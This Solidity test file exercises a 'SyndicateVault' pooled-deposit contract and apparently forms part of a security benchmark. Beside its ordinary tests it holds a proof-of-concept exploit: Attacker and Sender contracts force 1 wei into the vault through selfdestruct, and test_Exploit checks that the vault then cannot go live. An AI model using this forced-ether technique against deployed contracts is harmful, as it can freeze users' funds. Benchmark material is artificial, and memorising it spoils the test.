// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./SyndicateVault.sol";

// assay-canary-42cfc9df-0c18-4f06-b93f-46ad8d17cdad

interface Vm {
    function prank(address who) external;
    function deal(address who, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

contract Strategy is IStrategy {
    function fund() external payable override {}
}

contract Member {
    SyndicateVault internal vault;

    constructor(SyndicateVault _vault) {
        vault = _vault;
    }

    receive() external payable {}

    function join(uint256 _slot, uint256 _amount) public {
        vault.join{value: _amount}(_slot);
    }

    function exit() public {
        vault.exit();
    }

    function pass(address _to) public {
        vault.pass(_to);
    }

    function goLive() public {
        vault.goLive();
    }
}

contract Sender {
    constructor(address payable _to) payable {
        selfdestruct(_to);
    }
}

contract Attacker {
    function run(address payable _vault) external {
        new Sender{value: 1 wei}(_vault);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant MULTISIG = address(0xC0C0);

    SyndicateVault internal vault;
    Strategy internal strategy;
    Member[12] internal members;
    Attacker internal mallory;

    function setUp() public {
        strategy = new Strategy();
        vault = new SyndicateVault(address(this), strategy, 1 ether);
        for (uint256 i = 0; i < 12; i++) {
            members[i] = new Member(vault);
            vm.deal(address(members[i]), 2 ether);
            members[i].join(i + 1, 1 ether);
        }
        mallory = new Attacker();
        vm.deal(address(mallory), 1 wei);
    }

    function test_Regular() public {
        Member late = new Member(vault);
        vm.deal(address(late), 2 ether);
        require(!attempt(address(late), abi.encodeWithSelector(late.join.selector, 3, 1 ether)), "taken");
        (bool ok, ) = address(vault).call{value: 0}("");
        require(!ok, "plain payment");

        members[2].exit();
        require(address(members[2]).balance == 2 ether && vault.filled() == 11, "exited");
        require(!attempt(address(members[0]), abi.encodeWithSelector(Member.goLive.selector)), "a slot is free");
        require(!attempt(address(late), abi.encodeWithSelector(late.join.selector, 3, 2 ether)), "two shares");
        late.join(3, 1 ether);
        late.pass(address(members[2]));
        require(!attempt(address(late), abi.encodeWithSelector(Member.goLive.selector)), "no member");
        members[2].goLive();
        require(address(strategy).balance == 4 ether && vault.stages() == 1, "first stage");
        require(!attempt(address(members[1]), abi.encodeWithSelector(Member.exit.selector)), "too late");
        vault.release();
        vault.release();
        require(address(strategy).balance == 12 ether && address(vault).balance == 0, "all stages");
        require(!attempt(address(vault), abi.encodeWithSelector(vault.release.selector)), "no fourth");

        vault.setGovernance(MULTISIG);
        require(vault.governance() == MULTISIG, "governance");
    }

    function attempt(address _who, bytes memory _data) private returns (bool ok) {
        (ok, ) = _who.call(_data);
    }

    // all slots are paid, a member starts
    function start() external {
        members[0].goLive();
    }

    function refuses(address _who, bytes memory _why) internal {
        vm.prank(_who);
        vm.expectRevert(_why);
    }

    function test_RefusesStrangers() public {
        refuses(MULTISIG, "!governance");
        vault.setGovernance(MULTISIG);
        refuses(MULTISIG, "!governance");
        vault.release();
        vm.expectRevert("!to");
        vault.setGovernance(address(0));
        vm.expectRevert("!stages");
        vault.release();
    }

    function test_RefusesSetups() public {
        vm.expectRevert("!strategy");
        new SyndicateVault(MULTISIG, IStrategy(address(0)), 1);
        vm.expectRevert("!share");
        new SyndicateVault(MULTISIG, strategy, 0);
    }

    function test_RefusesSlots() public {
        Member late = new Member(vault);
        vm.deal(address(late), 3 ether);
        refuses(address(late), "!slot");
        vault.join{value: 1 ether}(0);
        refuses(address(late), "!slot");
        vault.join{value: 1 ether}(13);
        refuses(address(late), "!free");
        vault.join{value: 1 ether}(4);
        refuses(address(late), "!member");
        vault.exit();
        refuses(address(late), "!member");
        vault.goLive();
        refuses(address(late), "!pass");
        vault.pass(MULTISIG);
        refuses(address(members[0]), "!pass");
        vault.pass(address(0));
        refuses(address(members[0]), "!pass");
        vault.pass(address(members[1]));
        members[3].exit();
        refuses(address(late), "!value");
        vault.join{value: 2 ether}(4);
        refuses(address(members[0]), "!full");
        vault.goLive();
        refuses(address(members[0]), "!free");
        vault.join{value: 1 ether}(4);
    }

    function test_RefusesOnceLive() public {
        members[0].goLive();
        refuses(address(members[0]), "!early");
        vault.goLive();
        refuses(address(members[0]), "!early");
        vault.exit();
        vm.deal(MULTISIG, 1 ether);
        refuses(MULTISIG, "!early");
        vault.join{value: 1 ether}(4);
        vault.release();
        vault.release();
        vm.expectRevert("!stages");
        vault.release();
    }

    function exploit() public {
        mallory.run(payable(address(vault)));
    }

    function test_Exploit() public {
        exploit();
        require(vault.filled() == 12 && !attempt(address(this), abi.encodeWithSelector(this.start.selector)), "live");
        members[4].exit();
        members[4].join(5, 1 ether);
        require(!attempt(address(this), abi.encodeWithSelector(this.start.selector)), "live later");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
